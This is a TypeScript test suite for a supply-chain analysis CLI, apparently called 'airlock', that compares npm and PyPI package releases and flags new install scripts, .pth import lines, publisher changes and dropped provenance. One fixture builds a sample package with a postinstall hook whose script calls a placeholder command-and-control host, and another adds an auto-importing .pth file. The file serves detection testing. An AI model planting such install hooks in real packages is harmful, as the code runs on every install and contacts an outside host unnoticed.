import { writeFile } from 'node:fs/promises';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { run } from '../helpers/run.js';
import { tempDir } from '../helpers/temp-dir.js';
import { buildArtifact } from './build-artifacts.js';
import { npmBase, npmNext, wheelBase, wheelNext } from './cases/common.js';

let dir: { dir: string; remove: () => Promise<void> };
let files: Record<string, string> = {};
const analyze = (...args: string[]) => run(process.execPath, ['--import', 'tsx', 'src/cli/main.ts', 'analyze', ...args], { cwd: process.cwd() });

beforeAll(async () => {
  dir = await tempDir('airlock-analyze-cli-');
  const sub = async (name: string, spec: Parameters<typeof buildArtifact>[1]) => {
    const d = path.join(dir.dir, name);
    await (await import('node:fs/promises')).mkdir(d);
    return buildArtifact(d, spec);
  };
  files = {
    base: await sub('base', npmBase()),
    same: await sub('same', npmNext()),
    hook: await sub('hook', npmNext({ 'x.js': "require('https').get('https://c2.example.invalid')\n" }, { scripts: { postinstall: 'node x.js' } })),
    wheelBase: await sub('wb', wheelBase()),
    wheelPth: await sub('wp', wheelNext({ 'demo_init.pth': 'import demo_py\n' })),
  };
  await writeFile(path.join(dir.dir, 'prev-meta.json'), JSON.stringify({ publisher: 'alice', hasProvenance: true }));
  await writeFile(path.join(dir.dir, 'cand-meta.json'), JSON.stringify({ publisher: 'mallory', hasProvenance: false }));
}, 60_000);
afterAll(() => dir.remove());

describe('airlock analyze', () => {
  it('exits 0 with a clean JSON verdict for a release that gained nothing', async () => {
    const r = await analyze('--previous', files.base!, '--candidate', files.same!, '--json');
    expect(r.code).toBe(0);
    expect(JSON.parse(r.stdout)).toEqual({ verdict: 'clean', findings: [] });
  });

  it('exits 1 and lists findings with kind, severity, path, line and message when a postinstall appears', async () => {
    const r = await analyze('--previous', files.base!, '--candidate', files.hook!, '--json');
    expect(r.code).toBe(1);
    const out = JSON.parse(r.stdout) as { verdict: string; findings: Array<Record<string, unknown>> };
    expect(out.verdict).toBe('review');
    expect(out.findings[0]).toEqual({ kind: 'install-script-added', severity: 'critical', path: 'package.json', line: 6, message: 'package.json adds a postinstall script that runs on every install: `node x.js`.' });
    expect(Object.keys(out.findings[0]!).sort()).toEqual(['kind', 'line', 'message', 'path', 'severity']);
  });

  it('prints a readable report without --json', async () => {
    const r = await analyze('--previous', files.base!, '--candidate', files.hook!);
    expect(r.code).toBe(1);
    expect(r.stdout).toMatch(/^demo-1\.0\.1\.tgz compared with demo-1\.0\.0\.tgz: review/);
    expect(r.stdout).toMatch(/critical +install-script-added package\.json:6/);
  });

  it('infers PyPI from a wheel file name and flags a new .pth import line', async () => {
    const r = await analyze('--previous', files.wheelBase!, '--candidate', files.wheelPth!, '--json');
    expect(r.code).toBe(1);
    expect(JSON.parse(r.stdout).findings.map((f: { kind: string }) => f.kind)).toContain('pth-exec-added');
  });

  it('treats an omitted --previous as a first release', async () => {
    const r = await analyze('--candidate', files.same!, '--json');
    expect(r.code).toBe(0);
    expect(JSON.parse(r.stdout).findings).toEqual([expect.objectContaining({ kind: 'new-package', severity: 'medium', path: null, line: null })]);
  });

  it('reads publisher and provenance from --previous-meta and --candidate-meta', async () => {
    const r = await analyze('--previous', files.base!, '--candidate', files.same!, '--json', '--previous-meta', path.join(dir.dir, 'prev-meta.json'), '--candidate-meta', path.join(dir.dir, 'cand-meta.json'));
    expect(r.code).toBe(1);
    expect(JSON.parse(r.stdout).findings.map((f: { kind: string }) => f.kind).sort()).toEqual(['provenance-dropped', 'publisher-changed']);
  });

  it('exits 2 for a missing file, a missing --candidate, an unknown option or an unknowable ecosystem', async () => {
    expect((await analyze('--candidate', path.join(dir.dir, 'nope.tgz'))).code).toBe(2);
    expect((await analyze('--json')).code).toBe(2);
    expect((await analyze('--candidate', files.same!, '--bogus')).code).toBe(2);
    const weird = path.join(dir.dir, 'artifact.bin');
    await writeFile(weird, 'x');
    const r = await analyze('--candidate', weird);
    expect(r.code).toBe(2);
    expect(r.stderr).toMatch(/pass --ecosystem npm or --ecosystem pypi/);
  });
});
